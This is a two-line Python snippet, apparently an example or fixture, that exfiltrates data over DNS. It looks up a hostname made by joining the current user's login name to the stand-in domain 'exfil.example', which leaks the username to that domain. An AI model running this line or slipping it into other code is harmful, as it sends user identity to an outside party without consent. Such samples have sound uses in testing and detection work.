import socket, os
socket.gethostbyname(os.getlogin() + ".exfil.example")
